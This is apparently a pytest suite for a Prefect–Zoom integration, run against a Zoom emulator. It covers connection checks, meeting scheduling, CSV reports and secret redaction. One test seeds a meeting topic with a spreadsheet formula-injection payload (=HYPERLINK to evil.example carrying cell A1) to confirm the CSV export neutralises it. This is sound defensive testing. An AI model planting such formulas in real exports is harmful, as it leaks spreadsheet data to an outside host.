"""The ready-made flows against the emulator, with blocks saved by name in the Prefect harness."""

from __future__ import annotations

import csv
import json
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest
from helpers.connections import s2s_credentials
from prefect.client.orchestration import get_client
from prefect.client.schemas.filters import (
    ArtifactFilter,
    ArtifactFilterFlowRunId,
    ArtifactFilterKey,
)
from prefect.states import State
from prefect.variables import Variable

from prefect_zoom.capabilities import FLOW_REQUIREMENTS, capabilities
from prefect_zoom.catalog import ALL_SCOPES, OPERATIONS
from prefect_zoom.flows import (
    ConnectionReport,
    RowResult,
    check_connection,
    meetings_report,
    schedule_meetings,
    users_report,
)
from prefect_zoom.flows.schedule_meetings import AllRowsFailedError
from zoom_emulator import EmulatorConfig, ZoomEmulator
from zoom_emulator.models.meetings import Meeting
from zoom_emulator.models.operations import all_scopes as emulator_scopes
from zoom_emulator.models.ratelimit import MEETING_WRITES_PER_DAY

START = (datetime.now(UTC) + timedelta(days=2)).replace(hour=15, minute=0, second=0, microsecond=0)
START_TEXT = START.strftime("%Y-%m-%dT%H:%M:%SZ")
LONG_PASSWORD = "muchtoolongpass"


def configured(**settings: object) -> pytest.MarkDecorator:
    """Start this test's emulator with these settings (overrides ``emulator_config``)."""
    return pytest.mark.parametrize("emulator_config", [EmulatorConfig(**settings)], ids=["cfg"])


def save_block(emulator: ZoomEmulator, scopes: list[str] | None = None) -> str:
    """A Server-to-Server block (its app granted ``scopes``) saved under a fresh name."""
    if scopes is not None:
        emulator.state.apps[emulator.config.s2s_client_id].scopes = scopes
    name = f"zoom-flows-{uuid.uuid4().hex[:10]}"
    s2s_credentials(emulator).save(name, overwrite=True)
    return name


@pytest.fixture
def block_name(zoom_emulator: ZoomEmulator) -> str:
    return save_block(zoom_emulator)


def flow_run_id(state: State[Any]) -> UUID:
    run_id = state.state_details.flow_run_id
    assert run_id is not None
    return run_id


def artifact_data(state: State[Any], key: str) -> Any:
    """The data of the run's artifact with this key (markdown text, or the table's rows)."""
    with get_client(sync_client=True) as client:
        artifacts = client.read_artifacts(
            artifact_filter=ArtifactFilter(
                key=ArtifactFilterKey(any_=[key]),
                flow_run_id=ArtifactFilterFlowRunId(any_=[flow_run_id(state)]),
            )
        )
    assert len(artifacts) == 1, artifacts
    data = artifacts[0].data
    if artifacts[0].type == "table":
        return json.loads(data) if isinstance(data, str) else data
    return data


def host_meetings(emulator: ZoomEmulator, email: str) -> list[Meeting]:
    return [m for m in emulator.state.meetings.values() if m.host_email == email]


# ---- capabilities ------------------------------------------------------------------------------
def test_flow_requirements_name_catalog_operations() -> None:
    for needs in FLOW_REQUIREMENTS.values():
        named = list(needs.required) + [op for o in needs.options for op in o.operations]
        assert set(named) <= set(OPERATIONS), needs.name
    assert all(c.can_run and not c.unavailable_options for c in capabilities(ALL_SCOPES))
    by_name = {c.name: c for c in capabilities(["meeting:read"]) if c.kind == "flow"}
    assert by_name["meetings_report"].can_run
    assert not by_name["users_report"].can_run
    assert by_name["schedule_meetings"].scopes_to_add == ("meeting:write", "meeting:write:meeting")
    # finding what an earlier run scheduled takes the list of meetings
    write_only = {c.name: c for c in capabilities(["meeting:write"]) if c.kind == "flow"}
    assert write_only["schedule_meetings"].missing_operations == ("list_meetings",)
    # the event archive lists the meeting's files from Zoom, never from the event
    no_recordings = {c.name: c for c in capabilities(["meeting:read"]) if c.kind == "flow"}
    assert no_recordings["archive_meeting_recordings"].missing_operations == (
        "get_meeting_recordings",
        "download_recording_file",
    )


# ---- check_connection --------------------------------------------------------------------------
def test_check_connection_with_every_scope(zoom_emulator: ZoomEmulator, block_name: str) -> None:
    state = check_connection(block_name, return_state=True)
    report = state.result()

    assert isinstance(report, ConnectionReport)
    owner = zoom_emulator.state.owner()
    assert (report.email, report.user_id) == (owner.email, owner.id)
    assert report.account_id == zoom_emulator.config.account_id
    assert set(report.granted_scopes) == set(emulator_scopes())  # what the emulator granted
    assert {a.name for a in report.activities} == set(OPERATIONS) | {"zoom_request"}
    assert {f.name for f in report.flows} == set(FLOW_REQUIREMENTS)
    assert all(item.can_run for item in report.activities + report.flows)
    assert report.missing_scopes == []
    markdown = artifact_data(state, "zoom-connection-check")
    assert owner.email in markdown and "Every activity and flow can run." in markdown
    assert "`schedule_one_time_meeting`" in markdown  # tasks listed by activity


def test_check_connection_lists_missing_scopes(zoom_emulator: ZoomEmulator) -> None:
    name = save_block(zoom_emulator, ["user_info:read", "meeting:read"])

    state = check_connection(name, return_state=True)
    report: ConnectionReport = state.result()

    assert report.email == zoom_emulator.config.user_email
    assert report.granted_scopes == ["meeting:read", "user_info:read"]
    activities = {a.name: a for a in report.activities}
    assert activities["list_meetings"].can_run and activities["get_user"].can_run
    create = activities["create_meeting"]
    assert not create.can_run
    assert create.missing_scopes == ["meeting:write", "meeting:write:meeting"]
    assert "schedule_recurring_meeting" in create.tasks
    flows = {f.name: f for f in report.flows}
    assert not flows["schedule_meetings"].can_run
    assert flows["schedule_meetings"].missing_operations == ["create_meeting"]
    assert not flows["users_report"].can_run
    assert flows["meetings_report"].can_run
    assert any(
        "list_users" in o or "user:read" in o for o in flows["meetings_report"].unavailable_options
    )
    assert not flows["archive_recordings"].can_run
    assert set(flows["archive_recordings"].missing_operations) == {
        "list_user_recordings",
        "download_recording_file",
    }
    assert "cloud_recording:read:list_user_recordings" in report.missing_scopes

    markdown = artifact_data(state, "zoom-connection-check")
    assert "lack a scope" in markdown
    assert "`meeting:write:meeting`" in markdown
    assert "`cloud_recording:read:list_user_recordings`" in markdown
    assert "❌" in markdown and "✅" in markdown


def test_flow_run_parameters_hold_only_the_block_name(
    zoom_emulator: ZoomEmulator, block_name: str, tmp_path: Path
) -> None:
    states: list[State[Any]] = [
        check_connection(block_name, return_state=True),
        users_report(block_name, output_csv=str(tmp_path / "u.csv"), return_state=True),
    ]
    config = zoom_emulator.config
    secrets = [config.s2s_client_secret, config.oauth_client_secret, config.user_password]
    secrets += [token for token in zoom_emulator.state.access_tokens]
    with get_client(sync_client=True) as client:
        for state in states:
            assert state.is_completed(), state
            run = client.read_flow_run(flow_run_id(state))
            assert run.parameters["credentials_block"] == block_name
            dumped = json.dumps(run.parameters, default=str)
            assert not [secret for secret in secrets if secret in dumped]


# ---- schedule_meetings -------------------------------------------------------------------------
def rows_with_one_bad() -> list[dict[str, Any]]:
    return [
        {
            "topic": "Kick-off",
            "start_time": START_TEXT,
            "duration": 30,
            "password": "abc123",
            "agenda": "Plans",
            "invitees": "Ada; Grace",
        },
        {"topic": "Bad passcode", "start_time": START_TEXT, "password": LONG_PASSWORD},
        {
            "topic": "Weekly sync",
            "start_time": START.replace(tzinfo=None).isoformat(),
            "timezone": "Europe/Berlin",
            "duration": "45",
            "recurrence_type": "weekly",
            "weekly_days": "monday;thursday",
            "end_times": "4",
        },
    ]


def check_results(zoom_emulator: ZoomEmulator, results: list[RowResult], links: int) -> None:
    assert [r.row for r in results] == [1, 2, 3]
    assert [r.status for r in results] == ["created", "failed", "created"]
    bad = results[1]
    assert bad.error and bad.error.startswith("password:") and bad.meeting_id is None
    assert LONG_PASSWORD not in bad.error
    meetings = zoom_emulator.state.meetings
    assert results[0].meeting_id is not None and results[2].meeting_id is not None
    one_time, weekly = meetings[results[0].meeting_id], meetings[results[2].meeting_id]
    assert one_time.topic == "Kick-off" and one_time.type == 2
    assert one_time.start_time == START_TEXT and one_time.duration == 30
    assert weekly.type == 8 and weekly.timezone == "Europe/Berlin"
    assert weekly.recurrence is not None and weekly.occurrences is not None
    assert weekly.recurrence["type"] == 2 and weekly.recurrence["weekly_days"] == "2,5"
    assert len(weekly.occurrences) == 4 == results[2].occurrences
    assert len(meetings) == 2
    # the join URL without its pwd= passcode
    assert "pwd=" in one_time.join_url
    assert results[0].join_url == one_time.join_url.split("?")[0]
    assert results[0].invite_links == links
    dumped = json.dumps([r.model_dump(mode="json") for r in results])
    assert "start_url" not in dumped and "abc123" not in dumped
    assert one_time.start_url not in dumped
    assert one_time.encrypted_password not in dumped


def test_schedule_meetings_from_a_list(zoom_emulator: ZoomEmulator, block_name: str) -> None:
    state = schedule_meetings(block_name, rows_with_one_bad(), return_state=True)

    assert state.is_completed(), state
    results: list[RowResult] = state.result()
    check_results(zoom_emulator, results, links=2)
    assert results[2].invite_links == 0
    table = artifact_data(state, "zoom-scheduled-meetings")
    assert [row["status"] for row in table] == ["created", "failed", "created"]
    assert table[1]["error"].startswith("password:")
    assert "start_url" not in json.dumps(table) and "abc123" not in json.dumps(table)


def test_schedule_meetings_from_csv(
    zoom_emulator: ZoomEmulator, block_name: str, tmp_path: Path
) -> None:
    path = tmp_path / "meetings.csv"
    rows = rows_with_one_bad()
    rows[0]["invitees"] = ""
    columns = sorted({column for row in rows for column in row})
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=columns)
        writer.writeheader()
        writer.writerows(rows)

    state = schedule_meetings(
        block_name, csv_path=str(path), invitation_links_for=["Linus"], return_state=True
    )

    assert state.is_completed(), state
    results: list[RowResult] = state.result()
    check_results(zoom_emulator, results, links=1)
    assert results[2].invite_links == 1
    table = artifact_data(state, "zoom-scheduled-meetings")
    assert [row["row"] for row in table] == ["1", "2", "3"]


def test_schedule_meetings_fails_when_every_row_fails(
    zoom_emulator: ZoomEmulator, block_name: str
) -> None:
    rows = [
        {"topic": "No start"},
        {"topic": "Odd", "start_time": START_TEXT, "weekly_days": "monday"},
        {"topic": "Typo", "start_time": START_TEXT, "pasword": "x"},
    ]
    state = schedule_meetings(block_name, rows, return_state=True)

    assert state.is_failed()
    with pytest.raises(AllRowsFailedError, match="every row failed"):
        state.result()
    table = artifact_data(state, "zoom-scheduled-meetings")
    errors = [row["error"] for row in table]
    assert errors[0].startswith("start_time:")
    assert errors[1].startswith("weekly_days:")
    assert errors[2].startswith("pasword:")
    assert zoom_emulator.state.meetings == {}


def test_schedule_meetings_keeps_to_the_daily_limit_per_host(
    zoom_emulator: ZoomEmulator, block_name: str, caplog: pytest.LogCaptureFixture
) -> None:
    rows = [{"topic": f"Meeting {n}", "start_time": START_TEXT} for n in range(1, 4)]

    results = schedule_meetings(block_name, rows, daily_limit_per_host=2)

    assert [r.status for r in results] == ["created", "created", "skipped"]
    assert results[2].error and "daily_limit_per_host" in results[2].error
    assert len(zoom_emulator.state.meetings) == 2
    # the log line says "skipped" once
    assert "Row 3 ('Meeting 3'): skipped: daily limit of 2 meetings" in caplog.text
    assert "skipped: skipped" not in caplog.text

    # meetings already scheduled take no place in the allowance: the re-run sends row 3
    again = schedule_meetings(block_name, rows, daily_limit_per_host=2)

    assert [r.status for r in again] == ["already scheduled", "already scheduled", "created"]
    assert len(zoom_emulator.state.meetings) == 3


@configured(rate_limits="pro", seed_users=2)
def test_schedule_meetings_skips_a_host_after_zooms_daily_limit(
    emulator_config: EmulatorConfig, zoom_emulator: ZoomEmulator, block_name: str
) -> None:
    owner = zoom_emulator.state.owner()
    today = datetime.now(UTC).date()
    limiter = zoom_emulator.app.state.rate_limiter
    limiter._meeting_writes[(owner.id, today.isoformat())] = MEETING_WRITES_PER_DAY
    rows: list[dict[str, Any]] = [
        {"topic": f"Owner {n}", "start_time": START_TEXT} for n in range(1, 4)
    ]
    rows.append({"topic": "Other host", "start_time": START_TEXT, "host": "user1@example.com"})

    state = schedule_meetings(block_name, rows, return_state=True)

    assert state.is_completed(), state
    results: list[RowResult] = state.result()
    assert [r.status for r in results] == ["skipped", "skipped", "skipped", "created"]
    midnight = datetime.combine(today + timedelta(days=1), datetime.min.time(), UTC)
    for result in results[:3]:
        assert result.error and "daily limit" in result.error
        assert midnight.isoformat() in result.error
    assert [m.topic for m in zoom_emulator.state.meetings.values()] == ["Other host"]
    # one request hit the limit; the host's other rows were not sent
    assert zoom_emulator.state.counters["rate_limited Daily-limit"] <= 3


def six_rows() -> list[dict[str, Any]]:
    later = START + timedelta(days=1)
    return [
        {"topic": "Kick-off", "start_time": START_TEXT, "invitees": "Ada; Grace"},
        {"topic": "Long agenda", "start_time": START_TEXT, "agenda": "Notes. " * 100},
        {
            "topic": "Weekly sync",
            "start_time": START.replace(tzinfo=None).isoformat(),
            "timezone": "Europe/Berlin",
            "recurrence_type": "weekly",
            "weekly_days": "monday;thursday",
            "end_times": "4",
        },
        {"topic": "Weekly sync", "start_time": later.isoformat(), "password": "abc123"},
        {"topic": "Monthly", "start_time": START_TEXT, "recurrence_type": "monthly",
         "monthly_day": "3", "end_times": "2"},
        {"topic": "Theirs", "start_time": START_TEXT, "host": "user1@example.com",
         "invitees": "Linus"},
    ]  # fmt: skip


INVITE_ROUTE = "POST /v2/meetings/{meetingId}/invite_links 201"


@configured(seed_users=2)
def test_schedule_meetings_again_makes_no_duplicates(
    emulator_config: EmulatorConfig, zoom_emulator: ZoomEmulator, block_name: str
) -> None:
    first = schedule_meetings(block_name, six_rows())
    assert [r.status for r in first] == ["created"] * 6
    assert zoom_emulator.state.counters[INVITE_ROUTE] == 2

    state = schedule_meetings(block_name, six_rows(), return_state=True)

    assert state.is_completed(), state
    again: list[RowResult] = state.result()
    assert [r.status for r in again] == ["already scheduled"] * 6
    assert [r.meeting_id for r in again] == [r.meeting_id for r in first]
    assert [r.join_url for r in again] == [r.join_url for r in first]
    assert len(zoom_emulator.state.meetings) == 6
    # the links of the first run are still valid: none made again
    assert zoom_emulator.state.counters[INVITE_ROUTE] == 2
    assert [r.invite_links for r in again] == [0] * 6
    table = artifact_data(state, "zoom-scheduled-meetings")
    assert [row["status"] for row in table] == ["already scheduled"] * 6

    # the record of row 1's links is lost: its links are made again, row 6's are not
    kick_off = again[0].meeting_id
    Variable.unset(f"zoom-invite-links-{kick_off}")
    third = schedule_meetings(block_name, six_rows())
    assert [r.invite_links for r in third] == [2, 0, 0, 0, 0, 0]
    assert zoom_emulator.state.counters[INVITE_ROUTE] == 3
    assert len(zoom_emulator.state.meetings) == 6


def test_schedule_meetings_without_the_list_scope_sends_no_create(
    zoom_emulator: ZoomEmulator,
) -> None:
    name = save_block(zoom_emulator, ["meeting:write"])
    state = schedule_meetings(
        name, [{"topic": "Blind", "start_time": START_TEXT}], return_state=True
    )

    assert state.is_failed()
    table = artifact_data(state, "zoom-scheduled-meetings")
    assert "meeting:read" in table[0]["error"]  # the scope to add
    assert zoom_emulator.state.meetings == {}


def test_schedule_meetings_sends_a_repeated_row_once(
    zoom_emulator: ZoomEmulator, block_name: str
) -> None:
    row = {"topic": "Twice", "start_time": START_TEXT}
    results = schedule_meetings(block_name, [row, dict(row, duration="30")])

    assert [r.status for r in results] == ["created", "skipped"]
    assert results[1].error and "the same meeting as row 1" in results[1].error
    assert len(zoom_emulator.state.meetings) == 1


def test_schedule_meetings_can_show_passcodes_when_asked(
    zoom_emulator: ZoomEmulator, block_name: str
) -> None:
    rows = [{"topic": "Open", "start_time": START_TEXT, "password": "abc123"}]
    state = schedule_meetings(block_name, rows, include_passcodes=True, return_state=True)

    result: RowResult = state.result()[0]
    assert result.meeting_id is not None and result.join_url is not None
    meeting = zoom_emulator.state.meetings[result.meeting_id]
    assert result.join_url == meeting.join_url and "pwd=" in result.join_url
    assert artifact_data(state, "zoom-scheduled-meetings")[0]["join_url"] == meeting.join_url


# ---- reports -----------------------------------------------------------------------------------
def seed_meeting(emulator: ZoomEmulator, email: str, topic: str, start: datetime) -> int:
    body = {"topic": topic, "type": 2, "duration": 30}
    body["start_time"] = start.strftime("%Y-%m-%dT%H:%M:%SZ")
    return int(emulator.control("POST", "meetings", params={"user": email}, json=body)["id"])


def read_csv(path: str) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@configured(seed_users=3)
def test_meetings_report_lists_upcoming_meetings_of_every_user(
    emulator_config: EmulatorConfig, zoom_emulator: ZoomEmulator, block_name: str, tmp_path: Path
) -> None:
    owner = zoom_emulator.config.user_email
    expected = {
        seed_meeting(zoom_emulator, owner, "Owner upcoming", START),
        seed_meeting(
            zoom_emulator, "user1@example.com", "User1 upcoming", START + timedelta(hours=1)
        ),
        seed_meeting(
            zoom_emulator, "user2@example.com", "User2 upcoming", START + timedelta(hours=2)
        ),
    }
    seed_meeting(zoom_emulator, owner, "Owner past", START - timedelta(days=7))
    target = tmp_path / "reports" / "upcoming.csv"

    state = meetings_report(block_name, output_csv=str(target), return_state=True)

    path = state.result()
    assert path == str(target.resolve())
    rows = read_csv(path)
    assert {int(r["meeting_id"]) for r in rows} == expected
    assert [r["topic"] for r in rows] == ["Owner upcoming", "User1 upcoming", "User2 upcoming"]
    assert [r["user"] for r in rows] == [owner, "user1@example.com", "user2@example.com"]
    assert list(target.parent.iterdir()) == [target]  # no temporary file left behind
    table = artifact_data(state, "zoom-upcoming-meetings")
    assert [row["topic"] for row in table] == [r["topic"] for r in rows]


@configured(seed_users=2)
def test_meetings_report_falls_back_to_me_without_list_users(
    emulator_config: EmulatorConfig, zoom_emulator: ZoomEmulator, tmp_path: Path
) -> None:
    name = save_block(zoom_emulator, ["meeting:read"])
    seed_meeting(zoom_emulator, zoom_emulator.config.user_email, "Mine", START)
    seed_meeting(zoom_emulator, "user1@example.com", "Theirs", START)

    path = meetings_report(name, output_csv=str(tmp_path / "m.csv"))

    assert [(r["user"], r["topic"]) for r in read_csv(path)] == [("me", "Mine")]


def test_report_csv_holds_no_formulas_and_no_passcodes(
    zoom_emulator: ZoomEmulator, block_name: str, tmp_path: Path
) -> None:
    owner = zoom_emulator.config.user_email
    hostile = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
    meeting_id = seed_meeting(zoom_emulator, owner, hostile, START)
    seed_meeting(zoom_emulator, owner, "-2+3", START + timedelta(hours=1))
    join_url = zoom_emulator.state.meetings[meeting_id].join_url
    assert "?pwd=" in join_url

    path = meetings_report(block_name, user_ids=["me"], output_csv=str(tmp_path / "m.csv"))

    rows = read_csv(path)
    assert [r["topic"] for r in rows] == ["'" + hostile, "'-2+3"]
    assert rows[0]["join_url"] == join_url.split("?")[0]
    assert rows[0]["duration"] == "30"  # numbers stay numbers
    assert "pwd=" not in Path(path).read_text(encoding="utf-8")

    asked = meetings_report(
        block_name, user_ids=["me"], output_csv=str(tmp_path / "p.csv"), include_passcodes=True
    )
    assert read_csv(asked)[0]["join_url"] == join_url


def test_csv_cells_that_a_spreadsheet_would_run_get_a_quote() -> None:
    from prefect_zoom.flows._support import csv_cell

    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_cell(text) == "'" + text
    assert csv_cell("Plain = fine") == "Plain = fine"
    assert csv_cell(-5) == "-5" and csv_cell(None) == ""


@configured(seed_users=3)
def test_users_report_writes_every_active_user(
    emulator_config: EmulatorConfig, zoom_emulator: ZoomEmulator, block_name: str, tmp_path: Path
) -> None:
    target = tmp_path / "users.csv"
    target.write_text("old content\n")

    state = users_report(block_name, output_csv=str(target), return_state=True)

    path = state.result()
    rows = read_csv(path)
    emails = ["owner@example.com", "user1@example.com", "user2@example.com"]
    assert sorted(r["email"] for r in rows) == emails
    ids = {u.email: u.id for u in zoom_emulator.state.users.values()}
    assert all(r["id"] == ids[r["email"]] and r["status"] == "active" for r in rows)
    table = artifact_data(state, "zoom-users")
    assert sorted(row["email"] for row in table) == emails


def test_every_task_carries_the_documented_tags() -> None:
    """docs/meetings.md: ``zoom`` and one area tag, which a tag concurrency limit caps."""
    from prefect import Task

    import prefect_zoom.tasks as tasks

    areas = {"meetings", "recordings", "users", "webinars", "raw"}
    for name in tasks.__all__:
        task = getattr(tasks, name)
        assert isinstance(task, Task), name
        assert "zoom" in task.tags and len(task.tags & areas) == 1, (name, task.tags)
